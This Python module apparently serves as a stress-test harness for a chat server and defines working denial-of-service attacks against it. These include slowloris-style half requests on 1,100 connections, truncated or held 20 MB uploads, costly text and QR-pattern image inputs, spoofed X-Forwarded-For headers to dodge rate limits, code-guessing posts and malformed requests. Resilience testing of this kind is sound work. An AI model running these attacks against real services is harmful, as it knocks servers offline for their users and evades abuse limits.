"""The attacks on a server's work: each does its worst for a moment and is called again and again."""

import asyncio
import secrets
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from io import BytesIO

import numpy as np
from aiohttp import ClientSession, DummyCookieJar, FormData
from PIL import Image

BOUNDARY = "multipart/form-data; boundary=x"
PICTURE = (
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
)


@dataclass(frozen=True)
class Target:
    """Where the server is."""

    host: str
    port: int

    @property
    def url(self) -> str:
        """As a client wants it."""
        return f"http://{self.host}:{self.port}"

    @property
    def messages(self) -> str:
        """Where messages are posted."""
        return f"{self.url}/chat/messages"


Attack = Callable[[Target], Awaitable[None]]


def head(length: int, kind: str) -> bytes:
    """The head of a message."""
    return (
        f"POST /chat/messages HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.7\r\n"
        f"Content-Type: {kind}\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


async def sent(target: Target, content: bytes, length: int, hold_s: float, kind: str = BOUNDARY) -> None:
    """A body that may stop before its end; the connection is held for a while."""
    _, writer = await asyncio.open_connection(target.host, target.port)
    writer.write(head(length, kind) + content)
    with suppress(ConnectionError, TimeoutError):
        async with asyncio.timeout(hold_s + 20):
            await writer.drain()
            await asyncio.sleep(hold_s)
    writer.close()


async def empty_lines(target: Target) -> None:
    """20 MB before the first boundary."""
    await asyncio.gather(*(sent(target, b"\n" * 20_000_000, 20_000_000, 1) for _ in range(2)))


async def costly_lines(target: Target) -> None:
    """What once took the spelling 115 ms, 20 a second, each from somebody new."""
    async with ClientSession(cookie_jar=DummyCookieJar(), headers={"X-Forwarded-For": "203.0.113.7"}) as http:
        for text in ("a@" * 2000, "a" * 4000, "đăng ký kết hôn, " * 230):
            async with http.post(target.messages, json={"text": text}) as answer:
                await answer.read()
        await asyncio.sleep(0.12)


async def corners(target: Target) -> None:
    """Pictures full of corners of codes."""
    one = np.full((8, 8), 255, np.uint8)
    one[:7, :7], one[1:6, 1:6], one[2:5, 2:5] = 0, 255, 0
    file = BytesIO()
    Image.fromarray(np.tile(one, (250, 250))).save(file, "PNG")
    async with ClientSession(cookie_jar=DummyCookieJar(), headers={"X-Forwarded-For": "203.0.113.7"}) as http:
        form = FormData()
        form.add_field("file", file.getvalue(), filename="a.png", content_type="image/png")
        async with http.post(target.messages, data=form) as answer:
            await answer.read()


async def broken_uploads(target: Target) -> None:
    """Ten uploads of 20 MB that stop just before their end, and go."""
    await asyncio.gather(*(sent(target, PICTURE + bytes(19_000_000), 20_000_000, 0.5) for _ in range(10)))


async def held_uploads(target: Target) -> None:
    """The same, held as long as they may be."""
    await asyncio.gather(*(sent(target, PICTURE + bytes(19_000_000), 20_000_000, 20) for _ in range(10)))


async def half_heads(target: Target) -> None:
    """1,100 connections that begin to ask."""
    await _many(target, b"GET / HTTP/1.1\r\nHost: x\r\nA: ", 1100, 5)


async def open_streams(target: Target) -> None:
    """1,100 pages of one network."""
    request = b"GET /chat/events HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.7\r\n\r\n"
    await _many(target, request, 1100, 5)


async def _many(target: Target, request: bytes, count: int, hold_s: float) -> None:
    writers = []
    for _ in range(count):
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(0.5):
                _, writer = await asyncio.open_connection(target.host, target.port)
            writer.write(request)
            writers.append(writer)
    await asyncio.sleep(hold_s)
    for writer in writers:
        writer.close()


async def guesses(target: Target) -> None:
    """Wrong facts on codes in a row, a new person every other message."""
    async with ClientSession(cookie_jar=DummyCookieJar(), headers={"X-Forwarded-For": "203.0.113.7"}) as http:
        number = secrets.randbelow(400)
        for text in (f"H36.99-260706-{number:04}", f"{secrets.randbelow(10_000):04}"):
            async with http.post(target.messages, json={"text": text}) as answer:
                await answer.read()


async def garbage(target: Target) -> None:
    """Requests that are none, and pages that are none."""
    for request in (
        b"X\r\n\r\n",
        b"GET /chat/0901234567-a HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01" * 50,
    ):
        _, writer = await asyncio.open_connection(target.host, target.port)
        writer.write(request)
        await writer.drain()
        writer.close()


ATTACKS: Mapping[str, Attack] = {
    each.__name__: each
    for each in (
        empty_lines, costly_lines, corners, broken_uploads, held_uploads, half_heads, open_streams, guesses,
        garbage,
    )
}  # fmt: skip
